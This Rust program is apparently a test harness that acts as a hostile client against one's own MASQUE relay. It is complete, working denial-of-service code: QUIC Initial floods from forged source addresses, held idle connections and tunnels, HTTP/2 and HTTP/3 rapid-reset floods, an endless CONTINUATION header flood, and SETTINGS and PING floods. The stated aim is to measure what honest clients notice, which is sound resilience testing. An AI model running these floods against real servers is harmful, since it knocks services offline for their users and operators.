//! A hostile client of a relay, for a network of one's own: what honest clients notice is measured beside it (`interop/attacks_test.py`).
//!
//! ```text
//! floods LIST RELAY SECONDS initials RATE ADDRESS COUNT  this many QUIC Initials a second, as if from COUNT addresses, ADDRESS the first of them
//! floods LIST RELAY SECONDS idle2 EACH ADDRESS…          EACH connections of HTTP/2 from each address, without a request
//! floods LIST RELAY SECONDS idle3 EACH ADDRESS…          the same of HTTP/3
//! floods LIST RELAY SECONDS busy TARGET EACH ADDRESS…    the same with a tunnel to TARGET in each
//! floods LIST RELAY SECONDS reset2 TARGET COUNT          COUNT connections of HTTP/2 with requests for TARGET that are reset at once
//! floods LIST RELAY SECONDS reset3 TARGET COUNT          the same of HTTP/3
//! floods LIST RELAY SECONDS continuation COUNT           COUNT connections with a head that never ends
//! floods LIST RELAY SECONDS settings COUNT               the same with SETTINGS, and nothing that comes back is read
//! floods LIST RELAY SECONDS pings COUNT                  the same with PING
//! ```
//! LIST is a file with the authorities' list, RELAY a name in it. Addresses that it sends from have to be the host's own, or local by a route
//! (`ip route add local 10.78.0.0/16 dev lo`). A connection that ends is dialled anew. It prints what it has done in
//! one line of JSON, each second and after SECONDS, when it ends.

#![expect(
    clippy::panic,
    clippy::print_stdout,
    clippy::unwrap_used,
    clippy::disallowed_methods,
    reason = "an experiment on the command line: it prints, opens sockets, and whatever fails ends it"
)]

#[expect(dead_code, reason = "addresses of loopback are the other example's")]
#[path = "../tests/relay/forged.rs"]
mod forged;

use std::{
    io,
    net::{IpAddr, Ipv4Addr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering::Relaxed},
        mpsc,
    },
    thread,
    time::Duration,
};

use forged::{Forger, initials_for};
use hoplite_crypto::{ALPN_H2, ALPN_H3, ALPN_HTTP1, Pin, Trust, client_tls};
use hoplite_quic::{self as quic, VarInt};
use hoplite_wire::{
    RequestHead,
    directory::{SignedList, Stage},
    h3,
};
use rustls::pki_types::ServerName;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    sync::Semaphore,
    task::JoinSet,
    time::{Instant, sleep, timeout, timeout_at},
};
use tokio_rustls::{TlsConnector, client::TlsStream};

/// How long a handshake, or an answer, is waited for.
const PATIENCE: Duration = Duration::from_secs(5);
/// Handshakes of ours at once.
const AT_ONCE: usize = 64;

/// Counters of what was done and what came of it.
#[derive(Default)]
struct Tally {
    /// Handshakes begun.
    tried: AtomicU64,
    /// Connections that were there.
    made: AtomicU64,
    /// Those that are there.
    held: AtomicU64,
    /// The most that were there at once.
    most: AtomicU64,
    /// Handshakes, or tunnels, that were refused.
    refused: AtomicU64,
    /// Frames, requests or packets sent.
    sent: AtomicU64,
}

impl Tally {
    fn print(&self, what: &str) {
        let count = |counter: &AtomicU64| counter.load(Relaxed);
        let line = format!(
            "{{\"attack\":\"{what}\",\"tried\":{},\"made\":{},\"held\":{},\"most\":{},\"refused\":{},\"sent\":{}}}\n",
            count(&self.tried),
            count(&self.made),
            count(&self.held),
            count(&self.most),
            count(&self.refused),
            count(&self.sent),
        );
        // At once: the process may end meanwhile.
        print!("{line}");
    }
}

struct Attack {
    relay: SocketAddr,
    pin: Pin,
    until: Instant,
    dialling: Semaphore,
    tally: Tally,
}

/// A connection that is counted while it is there.
struct Held<'a>(&'a Tally);

impl<'a> Held<'a> {
    fn new(tally: &'a Tally) -> Self {
        tally.made.fetch_add(1, Relaxed);
        let held = tally.held.fetch_add(1, Relaxed) + 1;
        tally.most.fetch_max(held, Relaxed);
        Self(tally)
    }
}

impl Drop for Held<'_> {
    fn drop(&mut self) {
        self.0.held.fetch_sub(1, Relaxed);
    }
}

impl Attack {
    fn is_over(&self) -> bool {
        Instant::now() >= self.until
    }

    fn trust(&self) -> Trust {
        Trust::Pins(vec![self.pin])
    }

    async fn tls(&self, source: Ipv4Addr, alpn: &[u8]) -> Option<TlsStream<TcpStream>> {
        let _turn = self.dialling.acquire().await.unwrap();
        self.tally.tried.fetch_add(1, Relaxed);
        let dialled = timeout(PATIENCE, self.dial(source, alpn)).await;
        dialled.ok().and_then(Result::ok)
    }

    async fn dial(&self, source: Ipv4Addr, alpn: &[u8]) -> io::Result<TlsStream<TcpStream>> {
        let tls = client_tls(&self.trust(), &[alpn]).unwrap();
        let socket = TcpSocket::new_v4()?;
        socket.bind((source, 0).into())?;
        let stream = socket.connect(self.relay).await?;
        stream.set_nodelay(true)?;
        let name = ServerName::try_from("localhost").unwrap();
        TlsConnector::from(Arc::new(tls))
            .connect(name, stream)
            .await
    }

    async fn h2(&self, source: Ipv4Addr) -> Option<TlsStream<TcpStream>> {
        let mut stream = self.tls(source, ALPN_H2).await?;
        let hello = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        stream.write_all(&hello).await.ok()?;
        Some(stream)
    }

    async fn h3(&self, endpoint: &quic::Endpoint) -> Option<quic::Connection> {
        let _turn = self.dialling.acquire().await.unwrap();
        self.tally.tried.fetch_add(1, Relaxed);
        let tls = client_tls(&self.trust(), &[ALPN_H3]).unwrap();
        let tls: quic::crypto::rustls::QuicClientConfig = tls.try_into().unwrap();
        let mut config = quic::ClientConfig::new(Arc::new(tls));
        let mut transport = quic::TransportConfig::default();
        transport.keep_alive_interval(Some(Duration::from_secs(10)));
        config.transport_config(Arc::new(transport));
        let dialling = endpoint.connect_with(config, self.relay, "localhost");
        let connection = timeout(PATIENCE, dialling.ok()?).await.ok()?.ok()?;
        let mut control = connection.open_uni().await.ok()?;
        control.write_all(&[0, 4, 0]).await.ok()?;
        // Kept open: the end of a control stream would end the connection.
        std::mem::forget(control);
        Some(connection)
    }

    /// Waits a little after a refusal.
    async fn refused(&self) {
        self.tally.refused.fetch_add(1, Relaxed);
        sleep(Duration::from_millis(100)).await;
    }
}

// Forged handshakes

/// The packets are made beside, a second's worth of them ahead.
fn initials(attack: &Arc<Attack>, rate: usize, first: Ipv4Addr, addresses: u32) {
    let (made, next) = mpsc::sync_channel(rate);
    let (relay, pin) = (attack.relay, attack.pin);
    thread::spawn(move || {
        loop {
            for one in initials_for(ALPN_H3, relay, pin, 100) {
                if made.send(one).is_err() {
                    return;
                }
            }
        }
    });
    let forger = Forger::new(relay);
    let began = Instant::now();
    for number in (0_u32..).take_while(|_| !attack.is_over()) {
        let source = Ipv4Addr::from(u32::from(first) + number % addresses);
        let counter = match forger.send(source, &next.recv().unwrap()) {
            Ok(()) => &attack.tally.sent,
            Err(_) => &attack.tally.refused,
        };
        counter.fetch_add(1, Relaxed);
        let due = Duration::from_secs_f64(f64::from(number) / rate as f64);
        thread::sleep(due.saturating_sub(began.elapsed()));
    }
}

// Connections that are held

/// How a connection is held.
#[derive(Clone, PartialEq)]
enum Hold {
    H2,
    H3,
    /// By a tunnel to this target.
    Busy(String),
}

async fn hold(attack: Arc<Attack>, how: Hold, each: usize, sources: Vec<Ipv4Addr>) {
    let mut all = JoinSet::new();
    for source in sources {
        let endpoint =
            (how == Hold::H3).then(|| quic::Endpoint::client((source, 0).into()).unwrap());
        for _ in 0..each {
            let (attack, how, endpoint) = (Arc::clone(&attack), how.clone(), endpoint.clone());
            all.spawn(async move {
                while !attack.is_over() {
                    let held = match (&how, &endpoint) {
                        (Hold::H3, Some(endpoint)) => hold_quic(&attack, endpoint).await,
                        (Hold::Busy(target), _) => hold_tunnel(&attack, source, target).await,
                        _ => hold_tls(&attack, source).await,
                    };
                    if held.is_none() {
                        attack.refused().await;
                    }
                }
            });
        }
    }
    while all.join_next().await.is_some() {}
}

async fn hold_quic(attack: &Attack, endpoint: &quic::Endpoint) -> Option<()> {
    let connection = attack.h3(endpoint).await?;
    let _held = Held::new(&attack.tally);
    drop(timeout_at(attack.until, connection.closed()).await);
    Some(())
}

async fn hold_tls(attack: &Attack, source: Ipv4Addr) -> Option<()> {
    let mut stream = attack.h2(source).await?;
    let _held = Held::new(&attack.tally);
    drained(attack, &mut stream).await;
    Some(())
}

async fn hold_tunnel(attack: &Attack, source: Ipv4Addr, target: &str) -> Option<()> {
    let mut stream = attack.tls(source, ALPN_HTTP1).await?;
    let request = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
    stream.write_all(request.as_bytes()).await.ok()?;
    let mut answer = [0; 12];
    let answered = timeout(2 * PATIENCE, stream.read_exact(&mut answer)).await;
    answered.ok()?.ok()?;
    (&answer == b"HTTP/1.1 200").then_some(())?;
    let _held = Held::new(&attack.tally);
    drained(attack, &mut stream).await;
    Some(())
}

/// Reads until the other end has enough, or time is over.
async fn drained(attack: &Attack, stream: &mut TlsStream<TcpStream>) {
    let mut buffer = [0; 1024];
    while let Ok(Ok(1..)) = timeout_at(attack.until, stream.read(&mut buffer)).await {}
}

// Floods of HTTP

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const CANCELLED: VarInt = VarInt::from_u32(0x10c);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}

/// CONNECT in HPACK: literals without indexing, by the names of the static table (RFC 7541 §6.2.2, Appendix A).
fn connect_block(authority: &str) -> Vec<u8> {
    let length = u8::try_from(authority.len()).unwrap();
    [b"\x02\x07CONNECT\x01", &[length][..], authority.as_bytes()].concat()
}

/// What is sent over one connection of HTTP/2, on and on.
#[derive(Clone)]
enum Flood {
    Resets(String),
    Continuation,
    Settings,
    Pings,
}

impl Flood {
    /// The batch of this number, and how many frames it has that matter.
    fn batch(&self, number: u32) -> (Vec<u8>, u64) {
        const EACH: u32 = 100;
        let bytes = match self {
            Self::Resets(target) => {
                let block = connect_block(target);
                let streams = (0..EACH).map(|n| 2 * (number * EACH + n) + 1);
                let one = |stream| {
                    let begun = frame(HEADERS, END_HEADERS, stream, &block);
                    [begun, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
                };
                streams.flat_map(one).collect()
            }
            Self::Continuation => {
                let begun = match number {
                    0 => frame(HEADERS, 0, 1, &connect_block("a:1")),
                    _ => Vec::new(),
                };
                let more = frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y");
                [begun, more.repeat(EACH as usize)].concat()
            }
            Self::Settings => frame(SETTINGS, 0, 0, &[]).repeat(EACH as usize),
            Self::Pings => frame(PING, 0, 0, &[7; 8]).repeat(EACH as usize),
        };
        (bytes, EACH.into())
    }

    /// Whether what comes back is read: who only wants the other end to write does not.
    fn reads(&self) -> bool {
        matches!(self, Self::Resets(_) | Self::Continuation)
    }
}

async fn flood(attack: Arc<Attack>, flood: Flood, connections: usize) {
    let mut all = JoinSet::new();
    for _ in 0..connections {
        let (attack, flood) = (Arc::clone(&attack), flood.clone());
        all.spawn(async move {
            while !attack.is_over() {
                match attack.h2(Ipv4Addr::UNSPECIFIED).await {
                    Some(stream) => flooded(&attack, &flood, stream).await,
                    None => attack.refused().await,
                }
            }
        });
    }
    while all.join_next().await.is_some() {}
}

/// Until the other end has enough.
async fn flooded(attack: &Attack, flood: &Flood, stream: TlsStream<TcpStream>) {
    let _held = Held::new(&attack.tally);
    let (mut reader, mut writer) = tokio::io::split(stream);
    let sending = async {
        for number in 0_u32.. {
            let (bytes, frames) = flood.batch(number);
            let sent = timeout_at(attack.until, writer.write_all(&bytes)).await;
            if !matches!(sent, Ok(Ok(()))) {
                return;
            }
            attack.tally.sent.fetch_add(frames, Relaxed);
        }
    };
    let mut buffer = [0; 4096];
    let reading = async {
        while flood.reads() && matches!(reader.read(&mut buffer).await, Ok(1..)) {}
        if !flood.reads() {
            std::future::pending::<()>().await;
        }
    };
    tokio::select! { () = sending => {}, () = reading => {} }
}

async fn reset3(attack: Arc<Attack>, target: String, connections: usize) {
    let mut head = bytes::BytesMut::new();
    h3::write_headers(&mut head, &RequestHead::connect(target).encode());
    let mut all = JoinSet::new();
    for _ in 0..connections {
        let (attack, head) = (Arc::clone(&attack), head.clone().freeze());
        all.spawn(async move {
            let endpoint = quic::Endpoint::client((Ipv4Addr::UNSPECIFIED, 0).into()).unwrap();
            while !attack.is_over() {
                let Some(connection) = attack.h3(&endpoint).await else {
                    attack.refused().await;
                    continue;
                };
                let _held = Held::new(&attack.tally);
                while let Ok(Ok((mut send, mut recv))) =
                    timeout_at(attack.until, connection.open_bi()).await
                {
                    drop(send.write_all(&head).await);
                    drop(send.reset(CANCELLED));
                    drop(recv.stop(CANCELLED));
                    attack.tally.sent.fetch_add(1, Relaxed);
                }
            }
        });
    }
    while all.join_next().await.is_some() {}
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let [list, relay, seconds, what, rest @ ..] = words.as_slice() else {
        panic!("floods LIST RELAY SECONDS WHAT …: see the head of this file");
    };
    let text = std::fs::read_to_string(list).unwrap();
    let relays = SignedList::parse(&text, Stage::List).unwrap().list.relays;
    let mut relays = relays.iter().map(|relay| &relay.descriptor);
    let found = relays.find(|known| &known.name == relay);
    let found = found.expect("a relay of the list");
    let seconds: u64 = seconds.parse().unwrap();
    let attack = Arc::new(Attack {
        relay: found.addresses[0],
        pin: found.pin.map(Pin::from).expect("a relay of MASQUE"),
        until: Instant::now() + Duration::from_secs(seconds),
        dialling: Semaphore::new(AT_ONCE),
        tally: Tally::default(),
    });
    let number = |at: usize| rest[at].parse::<usize>().expect("a number");
    let sources = |from: usize| -> Vec<Ipv4Addr> {
        let parsed = rest[from..].iter().map(|text| text.parse().unwrap());
        parsed.collect()
    };
    let (run, said, named) = (Arc::clone(&attack), Arc::clone(&attack), what.clone());
    thread::spawn(move || {
        loop {
            thread::sleep(Duration::from_secs(1));
            said.tally.print(&named);
        }
    });
    match what.as_str() {
        "initials" => {
            let IpAddr::V4(first) = rest[1].parse().unwrap() else {
                panic!("an IPv4 address");
            };
            let (rate, count) = (rest[0].parse().unwrap(), rest[2].parse().unwrap());
            initials(&attack, rate, first, count);
        }
        "idle2" => hold(run, Hold::H2, number(0), sources(1)).await,
        "idle3" => hold(run, Hold::H3, number(0), sources(1)).await,
        "busy" => hold(run, Hold::Busy(rest[0].clone()), number(1), sources(2)).await,
        "reset2" => flood(run, Flood::Resets(rest[0].clone()), number(1)).await,
        "reset3" => reset3(run, rest[0].clone(), number(1)).await,
        "continuation" => flood(run, Flood::Continuation, number(0)).await,
        "settings" => flood(run, Flood::Settings, number(0)).await,
        "pings" => flood(run, Flood::Pings, number(0)).await,
        other => panic!("{other}?"),
    }
    attack.tally.print(what);
}
